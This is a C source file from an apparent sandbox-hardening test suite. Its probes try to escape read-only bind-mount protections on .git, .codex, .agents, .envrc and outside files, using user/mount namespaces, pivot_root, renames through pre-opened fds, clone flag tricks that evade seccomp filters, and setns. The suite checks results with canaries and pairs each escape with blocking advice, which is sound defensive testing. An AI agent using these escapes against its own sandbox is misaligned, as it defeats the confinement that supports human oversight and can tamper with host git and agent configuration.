/* ns: escapes that undo bind-mount protections from inside the box.
 *
 * A sandbox that guards .git, .codex, .agents or a deny-listed file with
 * read-only bind mounts, and lets the box make a user namespace, can be
 * beaten from inside: the box makes its own user + mount namespace, takes the
 * mounts it was given out of it, and works on the host's file system through
 * a directory fd it opened before. The kernel refuses to rename a mount point
 * only when it is one in the caller's current namespace (is_local_mountpoint),
 * so the protected name is moved away and a fresh one put in its place.
 *
 * Measured on Linux 6.18 in `bwrap --unshare-user ... --ro-bind WS/.git
 * WS/.git` with user namespaces allowed: the copies of the box's mounts are
 * locked (umount2 of one or of "/", and a non-recursive open_tree clone of
 * their parent, give EINVAL; mount_setattr clearing RDONLY gives EPERM), but
 * pivot_root into a fresh mount hands the old root's lock to the new one, so
 * the old root detaches whole, and renameat through the old fd then works. A
 * read-only mount stays read-only (the fd keeps its mount): a file outside
 * the workspace under `--ro-bind / /` stays out of reach. No id map is
 * written: a uid-0 box without CAP_SETFCAP may not map uid 0, and none is
 * needed, as the host's file system checks the fsuid in its own namespace.
 *
 * All of it runs in a child of the attempt. Mount calls are made only once
 * that child is in a mount namespace of its own, where they live and die
 * with it; verify looks only at the host's files. */
#include "common.h"
#include "registry.h"
#include "../lib/proc.h"

#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define NS_TIMEOUT_MS 5000
/* Where the fresh root is attached: outside/TOKEN-root, made by arm, so
 * that no mount lies below it (a non-recursive open_tree clone of a dir with
 * locked mounts below is refused); only the probe's namespace sees the mount. */
#define NEWROOT "outside/%s-root"
/* clone() reads only the low 32 bits of its flags: junk above them dodges a
 * filter that compares the whole word (0 where long is 32 bits). */
#define CLONE_HIGH_JUNK ((unsigned long)(~0ULL << 32))

/* How the child gets its namespace. */
enum entry {
	BY_UNSHARE, /* fork, then unshare(CLONE_NEWUSER | CLONE_NEWNS) */
	BY_CLONE,   /* clone() with those flags and junk in the high bits */
	BY_CLONE3,  /* clone3(): the flags are in memory a filter cannot read */
	BY_SETNS,   /* fork, then setns() into the sentinel's namespaces: the host's view */
};

/* What it does there before the decisive step. */
enum prep {
	PREP_NONE,
	PREP_MOUNT,	/* mount(2) a tmpfs as the fresh root, pivot, detach the old one */
	PREP_FSMOUNT,	/* the same with fsopen/fsconfig/fsmount/move_mount */
	PREP_OPEN_TREE, /* the same with open_tree(OPEN_TREE_CLONE)/move_mount of a plain dir */
	PREP_SETATTR,	/* mount_setattr clearing MOUNT_ATTR_RDONLY on ws/.git */
};

/* What is put in place of the protected name. */
enum fresh { FRESH_GITDIR, FRESH_DIR, FRESH_FILE };

/* The decisive step: rename dir/name away through the fd opened before and
 * build a fresh one. */
struct target {
	bool outside;	  /* in outside/ (else ws/) */
	const char *name; /* NULL: the probe's own canary, outside/TOKEN.txt */
	enum fresh fresh;
	const char *file; /* FRESH_DIR: the file in it that carries the token */
};

static const struct target T_GIT = {false, ".git", FRESH_GITDIR, NULL};
static const struct target T_CODEX = {false, ".codex", FRESH_DIR, "config.toml"};
static const struct target T_AGENTS = {false, ".agents", FRESH_DIR, "AGENTS.md"};
static const struct target T_ENVRC = {false, ".envrc", FRESH_FILE, NULL};
static const struct target T_OUTSIDE = {true, NULL, FRESH_FILE, NULL};

struct way {
	enum entry entry;
	enum prep prep;
	const struct target *t; /* NULL: append to ws/.git/config by path */
};

struct ns_ctx {
	const struct probe_env *env;
	const struct way *w;
	int ws, out;  /* O_PATH fds opened before the namespace */
	bool own_ns;  /* the child is in a mount namespace of its own (the kernel's view) */
	ino_t parent_mnt; /* the attempt's mount namespace, read before the child was made */
	struct attempt *a;
};

/* --- the steps, each one noted in the detail --- */

static int sys(long r)
{
	return r < 0 ? neg_errno() : 0;
}

/* Append "step: ok|ERRNO"; r passes through. */
static int note(struct attempt *a, const char *step, int r)
{
	detail_add(a, "%s: %s", step, r < 0 ? errno_name(r) : "ok");
	return r;
}

/* A fresh root at NEWROOT, three spellings. */
static int root_mount(const char *nr, struct attempt *a)
{
	return note(a, "mount tmpfs", sys(mount("cagetest", nr, "tmpfs", 0, "size=64k")));
}

static int root_fsmount(const char *nr, struct attempt *a)
{
	_cleanup_close_ int fs = fsopen("tmpfs", FSOPEN_CLOEXEC), m = -1;
	int r = note(a, "fsopen tmpfs", fs < 0 ? neg_errno() : 0);

	if (r == 0)
		r = note(a, "fsconfig", sys(fsconfig(fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0)));
	if (r == 0) {
		m = fsmount(fs, FSMOUNT_CLOEXEC, 0);
		r = note(a, "fsmount", m < 0 ? neg_errno() : 0);
	}
	return r ?: note(a, "move_mount", sys(move_mount(m, "", AT_FDCWD, nr, MOVE_MOUNT_F_EMPTY_PATH)));
}

static int root_open_tree(const char *nr, struct attempt *a)
{
	_cleanup_close_ int t = open_tree(AT_FDCWD, nr, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
	int r = note(a, "open_tree clone", t < 0 ? neg_errno() : 0);

	return r ?: note(a, "move_mount", sys(move_mount(t, "", AT_FDCWD, nr, MOVE_MOUNT_F_EMPTY_PATH)));
}

/* Pivot into the fresh root and detach the old one lazily, with every mount
 * the box was given. When that fails, detach what can be: the protected
 * mount itself (refused when locked). */
static int detach(struct ns_ctx *c)
{
	char nr[PATH_MAX], p[PATH_MAX];
	int r = ppath(c->env, nr, NEWROOT, c->env->token);

	if (r == 0)
		r = c->w->prep == PREP_MOUNT	  ? root_mount(nr, c->a)
		    : c->w->prep == PREP_FSMOUNT ? root_fsmount(nr, c->a)
						 : root_open_tree(nr, c->a);
	if (r == 0 && (r = note(c->a, "pivot_root", sys(chdir(nr) ?: syscall(SYS_pivot_root, ".", ".")))) == 0)
		return note(c->a, "detach old root", sys(umount2(".", MNT_DETACH)));
	if (c->w->t && c->w->t->name && ppath(c->env, p, "ws/%s", c->w->t->name) == 0)
		note(c->a, "umount2 the protected mount", sys(umount2(p, MNT_DETACH)));
	return r;
}

static int setattr_rw(struct ns_ctx *c)
{
	struct mount_attr ma = {.attr_clr = MOUNT_ATTR_RDONLY};
	char p[PATH_MAX];
	int r = ppath(c->env, p, "ws/.git");

	return note(c->a, "mount_setattr clear RDONLY", r ?: sys(mount_setattr(AT_FDCWD, p, AT_RECURSIVE, &ma, sizeof(ma))));
}

/* The fresh name at dfd/name, carrying the token. */
static int build_fresh(struct ns_ctx *c, int dfd, const char *name)
{
	const struct target *t = c->w->t;
	struct attempt scratch = {0};
	char p[PATH_MAX], line[96];
	int r = 0;

	snprintf(line, sizeof(line), "%s\n", c->env->token);
	switch (t->fresh) {
	case FRESH_GITDIR: /* a config host git runs, and a hook */
		if ((r = hostile_gitdir_at(c->env, dfd, name, &scratch)) < 0 || (r = fmt(p, sizeof(p), "%s/hooks", name)) < 0)
			return r;
		if (mkdirat(dfd, p, 0755) < 0 && errno != EEXIST)
			return neg_errno();
		snprintf(line, sizeof(line), "#!/bin/sh\ntrue cagetest-%s\n", c->env->token);
		r = fmt(p, sizeof(p), "%s/hooks/%s", name, c->env->token);
		break;
	case FRESH_DIR:
		if (mkdirat(dfd, name, 0755) < 0)
			return neg_errno();
		r = fmt(p, sizeof(p), "%s/%s", name, t->file);
		break;
	case FRESH_FILE:
		r = fmt(p, sizeof(p), "%s", name);
		break;
	}
	return r < 0 ? r : put_text_at(dfd, p, O_WRONLY | O_CREAT | O_EXCL, line);
}

/* Rename the protected name away through the fd opened before, then put a
 * fresh one in its place. */
static int replace(struct ns_ctx *c)
{
	const struct target *t = c->w->t;
	int dfd = t->outside ? c->out : c->ws;
	char name[64], away[96], step[96];

	snprintf(name, sizeof(name), t->name ? "%s" : "%s.txt", t->name ? t->name : c->env->token);
	snprintf(away, sizeof(away), "%s-orig%s", c->env->token, name);
	snprintf(step, sizeof(step), "rename %s away", t->name ? name : "the outside canary");
	int r = note(c->a, step, sys(renameat(dfd, name, dfd, away)));
	if (r < 0)
		return r;
	snprintf(step, sizeof(step), "fresh %s", t->name ? name : "canary");
	return note(c->a, step, build_fresh(c, dfd, name));
}

static int run_way(struct ns_ctx *c)
{
	if (c->w->prep != PREP_NONE && !c->own_ns)
		detail_add(c->a, "no namespace of its own: nothing mounted");
	else if (c->w->prep == PREP_SETATTR)
		setattr_rw(c);
	else if (c->w->prep != PREP_NONE)
		detach(c);
	if (c->w->t)
		return replace(c);
	struct attempt scratch = {0};
	return note(c->a, "append to .git/config", git_config_append(c->env, &scratch));
}

/* --- entering the namespace --- */

/* In the child: join the sentinel's user (when it differs) and mount
 * namespaces. Nothing is mounted after: that namespace is the host's. */
static void join_sentinel(struct ns_ctx *c)
{
	char p[64];
	struct stat its;
	ino_t mine = namespace_of("user");

	snprintf(p, sizeof(p), "/proc/%d/ns/user", c->env->sentinel);
	if (mine && stat(p, &its) == 0 && its.st_ino != mine) {
		_cleanup_close_ int u = open(p, O_RDONLY | O_CLOEXEC);
		note(c->a, "setns user", u < 0 ? neg_errno() : sys(setns(u, CLONE_NEWUSER)));
	}
	snprintf(p, sizeof(p), "/proc/%d/ns/mnt", c->env->sentinel);
	_cleanup_close_ int m = open(p, O_RDONLY | O_CLOEXEC);
	note(c->a, "setns mnt", m < 0 ? neg_errno() : sys(setns(m, CLONE_NEWNS)));
}

/* Fork or clone the child as the way says; 0 in the child. A clone that is
 * refused is noted and replaced by a plain fork: the attempt presses on. */
static pid_t spawn(void *arg)
{
	struct ns_ctx *c = arg;
	struct clone_args ca = {.flags = CLONE_NEWUSER | CLONE_NEWNS, .exit_signal = SIGCHLD};
	const char *how = c->w->entry == BY_CLONE ? "clone(NEWUSER|NEWNS, high bits set)" : "clone3(NEWUSER|NEWNS)";
	pid_t pid;

	if (c->w->entry == BY_CLONE)
		pid = (pid_t)syscall(SYS_clone, CLONE_HIGH_JUNK | CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, 0, NULL, NULL, 0);
	else if (c->w->entry == BY_CLONE3)
		pid = (pid_t)syscall(SYS_clone3, &ca, sizeof(ca));
	else
		return fork();
	if (pid == 0)
		note(c->a, how, 0);
	if (pid < 0) {
		note(c->a, how, neg_errno());
		pid = fork();
	}
	return pid;
}

/* An O_PATH fd on root/rel, or -errno (then every step through it says EBADF). */
static int open_dir(const struct probe_env *env, const char *rel)
{
	char p[PATH_MAX];
	int r = ppath(env, p, "%s", rel), fd;

	if (r < 0)
		return r;
	fd = open(p, O_PATH | O_DIRECTORY | O_CLOEXEC);
	return fd < 0 ? neg_errno() : fd;
}

/* The child: into its namespace as the way says, then the way; its
 * attempt (c->a, the answer) comes back to the parent. */
static void ns_child(void *arg, void *answer)
{
	struct ns_ctx *c = arg;

	(void)answer; /* c->a */
	if (c->w->entry == BY_UNSHARE)
		note(c->a, "unshare(NEWUSER|NEWNS)", sys(unshare(CLONE_NEWUSER | CLONE_NEWNS)));
	else if (c->w->entry == BY_SETNS)
		join_sentinel(c);
	/* mounts only where the kernel shows a namespace this child made,
	 * whatever the calls said (a joined one is the host's) */
	c->own_ns = c->w->entry != BY_SETNS && c->parent_mnt && namespace_of("mnt") != c->parent_mnt;
	c->a->rc = run_way(c);
}

static int ns_attempt(const struct probe_env *env, const struct way *w, struct attempt *a)
{
	_cleanup_close_ int ws = open_dir(env, "ws"), out = open_dir(env, "outside");
	struct ns_ctx c = {.env = env, .w = w, .ws = ws, .out = out, .parent_mnt = namespace_of("mnt"), .a = a};
	struct proc_call pc = {.fn = ns_child, .arg = &c, .size = sizeof(*a), .timeout = NS_TIMEOUT_MS / 1000.0,
			       .start = spawn};
	int r = proc_call(&pc, a, NULL);

	if (r == 0) {
		a->detail[sizeof(a->detail) - 1] = 0;
		return a->rc;
	}
	return note(a, r == -ETIMEDOUT || r == -ENODATA ? "the namespace child" : "fork",
		    r == -ETIMEDOUT ? r : r == -ENODATA ? -EIO : r);
}

#define NS_ATTEMPT(fn, entry, prep, target)                                                                 \
	static int fn##_attempt(const struct probe_env *env, struct attempt *a)                             \
	{                                                                                                   \
		static const struct way w = {entry, prep, target};                                         \
		return ns_attempt(env, &w, a);                                                              \
	}

NS_ATTEMPT(pivot_git, BY_UNSHARE, PREP_MOUNT, &T_GIT)
NS_ATTEMPT(pivot_codex, BY_UNSHARE, PREP_MOUNT, &T_CODEX)
NS_ATTEMPT(pivot_agents, BY_UNSHARE, PREP_MOUNT, &T_AGENTS)
NS_ATTEMPT(pivot_envrc, BY_UNSHARE, PREP_MOUNT, &T_ENVRC)
NS_ATTEMPT(pivot_outside, BY_UNSHARE, PREP_MOUNT, &T_OUTSIDE)
NS_ATTEMPT(fsmount_git, BY_UNSHARE, PREP_FSMOUNT, &T_GIT)
NS_ATTEMPT(open_tree_git, BY_UNSHARE, PREP_OPEN_TREE, &T_GIT)
NS_ATTEMPT(clone_git, BY_CLONE, PREP_MOUNT, &T_GIT)
NS_ATTEMPT(clone3_git, BY_CLONE3, PREP_MOUNT, &T_GIT)
NS_ATTEMPT(setattr_git, BY_UNSHARE, PREP_SETATTR, NULL)
NS_ATTEMPT(setns_git, BY_SETNS, PREP_NONE, NULL)

/* --- host side --- */

static int root_arm(const struct probe_env *env, char *why, size_t n)
{
	char p[PATH_MAX];

	(void)why, (void)n;
	PPATH(p, NEWROOT, env->token);
	return mkdir(p, 0755) < 0 ? neg_errno() : 0;
}

static int envrc_arm(const struct probe_env *env, char *why, size_t n)
{
	int r = root_arm(env, why, n);

	/* a file a mode that protects .envrc re-binds read-only */
	return r < 0 ? r : arm_canary(env, "ws/.envrc");
}

static int outside_arm(const struct probe_env *env, char *why, size_t n)
{
	char rel[64];
	int r = root_arm(env, why, n);

	snprintf(rel, sizeof(rel), "outside/%s.txt", env->token);
	return r < 0 ? r : arm_canary(env, rel);
}

/* A child killed at NS_TIMEOUT_MS (a machine too busy to let it finish)
 * never made its attempt to the end: what it did not do is no pass. */
static enum observed finished(const struct host_view *hv, enum observed o, char *d, size_t n)
{
	if (o != OBS_BLOCKED || !hv->att || !strstr(hv->att->detail, "the namespace child: ETIMEDOUT"))
		return o;
	snprintf(d, n, "the namespace child was killed before it finished: nothing seen yet");
	return OBS_UNKNOWN;
}

/* The protected name was moved away, or the fresh one carries the token. */
static enum observed replaced_verify(const struct host_view *hv, const struct target *t, char *d, size_t n)
{
	char rel[PATH_MAX];

	snprintf(rel, sizeof(rel), "ws/%s", t->name);
	if (v_gone(hv, rel, d, n) == OBS_ALLOWED)
		return OBS_ALLOWED;
	if (t->file)
		snprintf(rel, sizeof(rel), "ws/%s/%s", t->name, t->file);
	return finished(hv, v_has_token(hv, rel, d, n), d, n);
}

static enum observed git_verify(const struct host_view *hv, char *d, size_t n)
{
	return finished(hv, v_git_replaced(hv, d, n), d, n);
}

static enum observed config_verify(const struct host_view *hv, char *d, size_t n)
{
	return finished(hv, v_git_config(hv, d, n), d, n);
}

static enum observed codex_verify(const struct host_view *hv, char *d, size_t n)
{
	return replaced_verify(hv, &T_CODEX, d, n);
}

static enum observed agents_verify(const struct host_view *hv, char *d, size_t n)
{
	return replaced_verify(hv, &T_AGENTS, d, n);
}

static enum observed envrc_verify(const struct host_view *hv, char *d, size_t n)
{
	return replaced_verify(hv, &T_ENVRC, d, n);
}

static enum observed outside_verify(const struct host_view *hv, char *d, size_t n)
{
	char rel[64];

	snprintf(rel, sizeof(rel), "outside/%s.txt", hv->env->token);
	return finished(hv, v_canary_changed(hv, rel, d, n), d, n);
}

#define NS_BLOCKERS                                                                                         \
	"seccomp (unshare/clone with CLONE_NEWUSER, clone3, mount API, pivot_root), bwrap --disable-userns, "   \
	"user.max_user_namespaces=0; not Landlock in write modes (the name is writable anyway)"
#define NS_HINT                                                                                             \
	"deny user namespaces inside the box (seccomp on unshare, clone and clone3; bwrap --unshare-user "      \
	"--disable-userns): bind mounts alone do not protect a path from a process that can make its own "      \
	"mount namespace. Where the detail shows that step refused, the name was never protected at all"

const struct probe ns_probes[] = {
	{
		.id = "ns.pivot_git",
		.effect = EFFECT_WRITE_PROTECTED,
		.name = ".git",
		.flags = PROBE_SOLO,
		.summary = "own user+mount ns, pivot_root into a tmpfs, detach the old root, then through a ws fd opened "
			   "before: rename .git away, plant a .git with core.fsmonitor and a hook",
		.evidence = "ws/.git moved away or its config carries the token; host git reads the fsmonitor back",
		.blocked_by = NS_BLOCKERS,
		.hint = NS_HINT,
		.arm = root_arm,
		.attempt = pivot_git_attempt,
		.verify = git_verify,
	},
	{
		.id = "ns.pivot_codex",
		.effect = EFFECT_WRITE_PROTECTED,
		.name = ".codex",
		.flags = PROBE_SOLO,
		.summary = "the same detach, then rename .codex away and plant a .codex/config.toml",
		.evidence = "ws/.codex moved away or .codex/config.toml carries the token",
		.blocked_by = NS_BLOCKERS,
		.hint = NS_HINT,
		.arm = root_arm,
		.attempt = pivot_codex_attempt,
		.verify = codex_verify,
	},
	{
		.id = "ns.pivot_agents",
		.effect = EFFECT_WRITE_PROTECTED,
		.name = ".agents",
		.flags = PROBE_SOLO,
		.summary = "the same detach, then rename .agents away and plant a .agents/AGENTS.md",
		.evidence = "ws/.agents moved away or .agents/AGENTS.md carries the token",
		.blocked_by = NS_BLOCKERS,
		.hint = NS_HINT,
		.arm = root_arm,
		.attempt = pivot_agents_attempt,
		.verify = agents_verify,
	},
	{
		.id = "ns.pivot_envrc",
		.effect = EFFECT_WRITE_PROTECTED,
		.name = ".envrc",
		.flags = PROBE_SOLO,
		.summary = "the same detach, then replace the file .envrc (deny-listed in the strict suite)",
		.evidence = "ws/.envrc moved away or carries the token",
		.blocked_by = NS_BLOCKERS,
		.hint = NS_HINT,
		.arm = envrc_arm,
		.attempt = pivot_envrc_attempt,
		.verify = envrc_verify,
	},
	{
		.id = "ns.pivot_outside",
		.effect = EFFECT_WRITE_OUTSIDE,
		.summary = "the same detach, then through an outside/ fd opened before: replace an outside canary",
		.evidence = "the canary changed or is gone",
		.blocked_by = "read-only mounts (the fd keeps its mount), Landlock, seccomp",
		.hint = "keep everything outside the writable roots on read-only mounts: detaching cannot undo those",
		.arm = outside_arm,
		.attempt = pivot_outside_attempt,
		.verify = outside_verify,
	},
	{
		.id = "ns.fsmount_git",
		.effect = EFFECT_WRITE_PROTECTED,
		.name = ".git",
		.flags = PROBE_SOLO,
		.summary = "ns.pivot_git with the fresh root made by fsopen/fsconfig/fsmount/move_mount (no mount(2))",
		.evidence = "ws/.git moved away or its config carries the token; host git reads the fsmonitor back",
		.blocked_by = NS_BLOCKERS,
		.hint = NS_HINT " (a filter on mount(2) alone misses the new mount API)",
		.arm = root_arm,
		.attempt = fsmount_git_attempt,
		.verify = git_verify,
	},
	{
		.id = "ns.open_tree_git",
		.effect = EFFECT_WRITE_PROTECTED,
		.name = ".git",
		.flags = PROBE_SOLO,
		.summary = "ns.pivot_git with the fresh root made by open_tree(OPEN_TREE_CLONE)/move_mount (no mount(2))",
		.evidence = "ws/.git moved away or its config carries the token; host git reads the fsmonitor back",
		.blocked_by = NS_BLOCKERS,
		.hint = NS_HINT " (a filter on mount(2) alone misses the new mount API)",
		.arm = root_arm,
		.attempt = open_tree_git_attempt,
		.verify = git_verify,
	},
	{
		.id = "ns.clone_git",
		.effect = EFFECT_WRITE_PROTECTED,
		.name = ".git",
		.flags = PROBE_SOLO,
		.summary = "ns.pivot_git in a child made by clone(CLONE_NEWUSER|CLONE_NEWNS) with junk in the flags' high "
			   "32 bits (ignored by the kernel)",
		.evidence = "ws/.git moved away or its config carries the token; host git reads the fsmonitor back",
		.blocked_by = NS_BLOCKERS,
		.hint = NS_HINT " (a filter on unshare() alone, or one comparing clone's whole flags word, misses this)",
		.arm = root_arm,
		.attempt = clone_git_attempt,
		.verify = git_verify,
	},
	{
		.id = "ns.clone3_git",
		.effect = EFFECT_WRITE_PROTECTED,
		.name = ".git",
		.flags = PROBE_SOLO,
		.summary = "ns.pivot_git in a child made by clone3(CLONE_NEWUSER|CLONE_NEWNS)",
		.evidence = "ws/.git moved away or its config carries the token; host git reads the fsmonitor back",
		.blocked_by = NS_BLOCKERS,
		.hint = NS_HINT " (clone3 passes its flags in memory: make it ENOSYS so libc falls back to clone)",
		.arm = root_arm,
		.attempt = clone3_git_attempt,
		.verify = git_verify,
	},
	{
		.id = "ns.mount_setattr_git",
		.effect = EFFECT_WRITE_PROTECTED,
		.name = ".git",
		.summary = "own user+mount ns, mount_setattr(.git, AT_RECURSIVE) clearing MOUNT_ATTR_RDONLY, append to "
			   ".git/config",
		.evidence = ".git/config carries the token",
		.blocked_by = "locked mounts (a less privileged namespace cannot clear RDONLY), seccomp (unshare, "
			      "mount_setattr)",
		.hint = "never leave the box CAP_SYS_ADMIN over the namespace that holds its read-only mounts",
		.attempt = setattr_git_attempt,
		.verify = config_verify,
	},
	{
		.id = "ns.setns_git",
		.effect = EFFECT_WRITE_PROTECTED,
		.name = ".git",
		.needs = NEED_SENTINEL,
		.summary = "setns() into the user and mount namespaces of a visible host process (the sentinel), append "
			   "to .git/config",
		.evidence = ".git/config carries the token",
		.blocked_by = "pid namespaces (host processes invisible), no CAP_SYS_ADMIN over the host's namespaces, "
			      "seccomp (setns)",
		.hint = "hide host processes (a pid namespace), drop every capability and deny setns",
		.arm = arm_sentinel,
		.attempt = setns_git_attempt,
		.verify = config_verify,
	},
};
PROBE_TABLE_END(ns);
